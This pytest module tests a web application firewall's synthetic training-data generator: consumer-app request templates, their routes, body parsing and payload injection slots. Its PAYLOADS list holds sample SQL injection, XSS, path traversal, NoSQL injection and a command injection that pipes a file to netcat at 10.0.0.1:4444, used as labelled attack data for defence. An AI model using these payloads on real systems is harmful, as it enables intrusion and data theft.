"""Consumer-app train templates: registered as train, on routes of their own, seeded, well-formed, injectable."""

from __future__ import annotations

import base64
import csv
import io
import json
import urllib.parse
import xml.etree.ElementTree as ET
from collections import Counter
from email.parser import BytesParser
from email.policy import HTTP
from typing import Any

import pytest

from tests.training.test_synth import _strings, problems
from waf_proxy.training import synth, synth_templates_consumer
from waf_proxy.training.synth_templates import REGISTRY, Template, templates_for
from waf_proxy.training.synth_templates_consumer import CONSUMER
from waf_proxy.training.synth_values import SENTINEL, encode_for_slot

MINE = [REGISTRY[name] for name in CONSUMER]
SEEDS = range(40)

# Each payload carries a marker that no benign value contains, so it can be found after encoding.
MARK = "zqmark9"
PAYLOADS = [
    f"' OR '{MARK}'='{MARK}' -- ",
    f"<script>alert('{MARK}')</script>",
    f"../../../{MARK}/etc/passwd",
    f"; cat /etc/{MARK} | nc 10.0.0.1 4444 #",
    '{"$where": "' + MARK + '"}',
]


def _on(path: str, routes: tuple[str, ...]) -> bool:
    return any(path == r if r == "/" else path.startswith(r) for r in routes)


def _overlap(a: str, b: str) -> bool:
    if "/" in (a, b):
        return a == b
    return a.startswith(b) or b.startswith(a)


def _ctype(record: dict[str, Any]) -> str:
    return next((v for k, v in record["headers"] if k.lower() == "content-type"), "")


def _parse_body(record: dict[str, Any]) -> Any:
    """Parse a body by its content type, as the receiving app would; raises if malformed."""
    ctype, body = _ctype(record).lower(), record["body"]
    if "json" in ctype or (ctype.startswith("text/plain") and body.startswith("{")):
        return json.loads(body)
    if "urlencoded" in ctype:
        return urllib.parse.parse_qsl(body, keep_blank_values=True, strict_parsing=True)
    if "multipart" in ctype:
        raw = f"Content-Type: {_ctype(record)}\r\n\r\n".encode() + body.encode("utf-8")
        msg = BytesParser(policy=HTTP).parsebytes(raw)
        assert msg.is_multipart() and not msg.defects
        parts = {p.get_param("name", header="content-disposition"): p.get_content() for p in msg.iter_parts()}
        assert parts and all(parts)
        return parts
    if "xml" in ctype or "opml" in ctype:
        return ET.fromstring(body.encode("utf-8"))
    if ctype.startswith("text/csv"):
        rows = list(csv.reader(io.StringIO(body)))
        assert len(rows) >= 3 and all(len(r) == len(rows[0]) for r in rows)
        return rows
    if ctype.startswith("image/jpeg"):
        return base64.b64decode(body, validate=True)
    assert ctype in ("", "text/plain") or ctype.startswith("text/plain;"), ctype
    return body


def _text(record: dict[str, Any]) -> str:
    """Path, query and body of a record, decoded (JSON escapes and percent-encoding undone)."""
    out = urllib.parse.unquote(record["path"]) + "?" + urllib.parse.unquote_plus(record["query"]) + "\n"
    parsed = _parse_body(record)
    if isinstance(parsed, (dict, list)) and "json" in _ctype(record) or record["body"].startswith("{"):
        return out + json.dumps(parsed, ensure_ascii=False, default=str)
    if "urlencoded" in _ctype(record):
        return out + "\n".join(v for _, v in parsed)
    return out + record["body"]


def _render_all(tpl: Template) -> list[dict[str, Any]]:
    return [synth.render(tpl, f"consumer:{tpl.name}:{s}")[0] for s in SEEDS]


@pytest.fixture(scope="module")
def rendered() -> dict[str, list[dict[str, Any]]]:
    return {tpl.name: _render_all(tpl) for tpl in MINE}


def test_consumer_templates_are_registered_as_train() -> None:
    assert 10 <= len(CONSUMER) <= 14 and len(set(CONSUMER)) == len(CONSUMER)
    defined_here = {t.name for t in REGISTRY.values() if t.build.__module__ == synth_templates_consumer.__name__}
    assert defined_here == set(CONSUMER)
    train = {t.name for t in templates_for("train")}
    assert set(CONSUMER) <= train
    assert all(REGISTRY[name].group == "train" and REGISTRY[name].weight > 0 for name in CONSUMER)


def test_routes_are_disjoint_from_every_other_template() -> None:
    for mine in MINE:
        assert mine.routes and all(r.startswith("/") and r.endswith("/") and r.count("/") >= 2 for r in mine.routes), mine.routes
        for other in REGISTRY.values():
            if other.name == mine.name:
                continue
            for a in mine.routes:
                for b in other.routes:
                    assert not _overlap(a, b), (mine.name, a, other.name, b)


def test_rendering_is_deterministic_per_seed(rendered) -> None:
    for tpl in MINE:
        assert rendered[tpl.name] == _render_all(tpl), tpl.name
        distinct = {json.dumps(r, sort_keys=True) for r in rendered[tpl.name]}
        assert len(distinct) >= len(SEEDS) * 0.9, tpl.name


def test_benign_requests_are_valid_parse_and_stay_on_their_routes(rendered) -> None:
    other_routes = tuple(r for t in REGISTRY.values() if t.name not in CONSUMER for r in t.routes)
    for tpl in MINE:
        for i, request in enumerate(rendered[tpl.name]):
            record = synth._finish(request, f"t-{tpl.name}-{i}", "benign", "normal", f"synth:{tpl.name}")
            assert problems(record) == [], (tpl.name, i, problems(record))
            assert _on(record["path"], tpl.routes) and not _on(record["path"], other_routes), (tpl.name, record["path"])
            assert SENTINEL not in json.dumps(record)
            if record["method"] in ("GET", "HEAD", "OPTIONS"):
                assert record["body"] == "", (tpl.name, record["method"])
            if record["body"]:
                assert _ctype(record), (tpl.name, i)
            _parse_body(record)
            assert len(record["body"]) < 12_000, (tpl.name, len(record["body"]))


def test_consumer_templates_cover_methods_formats_clients_and_languages(rendered) -> None:
    records = [r for name in CONSUMER for r in rendered[name]]
    methods = Counter(r["method"] for r in records)
    assert {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"} <= set(methods)
    ctypes = {_ctype(r).split(";")[0] for r in records}
    assert {"application/json", "application/x-www-form-urlencoded", "multipart/form-data", "text/plain", "text/csv", "image/jpeg"} <= ctypes
    assert ctypes & {"application/xml", "text/x-opml"}
    header_names = {k.lower() for r in records for k, _ in r["headers"]}
    assert {"cookie", "authorization", "origin", "referer", "x-device-id", "x-client-key", "x-partner-id"} <= header_names
    assert header_names & {"x-eats-signature", "x-signature-256", "x-fund-signature"}
    assert any(v.startswith("Bearer ") for r in records for k, v in r["headers"] if k == "Authorization")
    assert any(k.lower() in ("x-api-key", "api-key", "x-api-token") for r in records for k, _ in r["headers"])
    uas = {v for r in records for k, v in r["headers"] if k == "User-Agent"}
    assert any(u.startswith("Mozilla/") for u in uas) and any(u.startswith(("okhttp/", "Dart/")) or "CFNetwork" in u or "Alamofire" in u for u in uas)
    # parameter naming styles: brackets, arrays, dotted, kebab-case and camelCase
    names = {k for r in records for k, _ in urllib.parse.parse_qsl(r["query"] + "&" + (r["body"] if "urlencoded" in _ctype(r) else ""), keep_blank_values=True)}
    assert {"comment[body]", "artist[0]", "ids[]", "cuisine[]", "topics[]", "page[size]", "price.min", "sort.field", "age-min"} <= names
    json_keys = {k for r in records if _ctype(r).startswith("application/json") and r["body"].startswith("{") for k in json.loads(r["body"])}
    assert {"font-size", "edge-style", "displayName", "maxDistanceKm", "story_html"} <= json_keys  # kebab, camel and snake case
    assert any(r["body"].startswith("[{") for r in records)  # a top-level JSON array of objects
    # free text in many scripts and the usual false-positive traps
    decoded = [_text(r) for r in records]
    assert sum(not d.isascii() for d in decoded) / len(decoded) > 0.25
    blob = "\n".join(decoded).lower()
    for trap in ("--", "'", "#", "@", "&"):
        assert trap in blob, trap


def _decoded(record: dict[str, Any], field: str, kind: str) -> str:
    """The field holding a payload, decoded the way the receiving app would."""
    if field.startswith("header:"):
        return urllib.parse.unquote(dict(record["headers"])[field[7:]])
    if field == "path":
        return urllib.parse.unquote(record["path"])
    if field == "query":
        values = [v for _, v in urllib.parse.parse_qsl(record["query"], keep_blank_values=True)]
        if kind == "json_query":
            return "\n".join(s for v in values if v.startswith("{") for s in _strings(json.loads(v)))
        return "\n".join(values)
    if kind == "json":
        return "\n".join(_strings(_parse_body(record)))
    if kind == "form":
        return "\n".join(v for _, v in _parse_body(record))
    if kind == "xml":
        root = _parse_body(record)
        return "\n".join([*(t for el in root.iter() for t in (el.text or "",)), *(a for el in root.iter() for a in el.attrib.values())])
    return record["body"]  # multipart parts and raw text bodies carry the payload as is


@pytest.mark.parametrize("tpl", MINE, ids=lambda t: t.name)
def test_a_payload_in_any_slot_lands_in_the_request_and_only_there(tpl: Template) -> None:
    kinds: set[str] = set()
    for seed in range(10):
        benign, ctx = synth.render(tpl, f"slot:{seed}")
        assert ctx.slots, tpl.name
        for at, slot in enumerate(ctx.slots):
            kinds.add(slot.kind)
            payload = PAYLOADS[(seed + at) % len(PAYLOADS)]
            attack, actx = synth.render(tpl, f"slot:{seed}", inject_at=at)
            encoded = encode_for_slot(actx, slot.kind, payload)
            fields = {k: attack[k] for k in ("path", "query", "body")} | {f"header:{k}": v for k, v in attack["headers"]}
            holding = [k for k, value in fields.items() if SENTINEL in value]
            assert len(holding) == 1 and fields[holding[0]].count(SENTINEL) == 1, (tpl.name, slot)
            field = synth._replace_sentinel(attack, encoded)
            assert field == holding[0]
            for key in ("method", "path", "query", "body"):
                if key != field:
                    assert attack[key] == benign[key], (tpl.name, slot, key)
            record = synth._finish(attack, "a", "attack", "sqli", "s")
            assert problems(record) == [], (tpl.name, slot, problems(record))
            if slot.kind not in ("cookie", "header"):
                assert payload in _decoded(attack, field, slot.kind), (tpl.name, slot)
            else:
                assert MARK in _decoded(attack, field, slot.kind), (tpl.name, slot)
    assert kinds - {"header", "cookie"}, (tpl.name, kinds)  # user values, not only client headers


def test_module_as_a_whole_uses_many_slot_kinds() -> None:
    kinds = Counter()
    for tpl in MINE:
        for seed in range(15):
            _, ctx = synth.render(tpl, f"kinds:{seed}")
            kinds.update(s.kind for s in ctx.slots)
    assert {"json", "json_query", "query", "form", "path", "header", "cookie", "multipart", "xml"} <= set(kinds), kinds


def test_generated_attacks_reach_every_consumer_template(monkeypatch: pytest.MonkeyPatch) -> None:
    """The attack pipeline, run over this module's templates only (siblings are tested on their own)."""
    monkeypatch.setattr(synth, "templates_for", lambda group: list(MINE))
    payloads = [(p, c) for p, c in zip(PAYLOADS, ("sqli", "xss", "path-traversal", "rce", "nosql-injection"))]
    mine = synth.generate_attack_pairs(400, payloads, seed=31, templates="train", evasion_rate=0.25)
    assert {i["template"] for _, _, i in mine} == set(CONSUMER)
    for benign, attack, info in mine:
        assert problems(attack) == [] and problems(benign) == []
        if info["slot"] == "json":
            _parse_body(attack)  # a payload in a JSON field keeps the body valid JSON
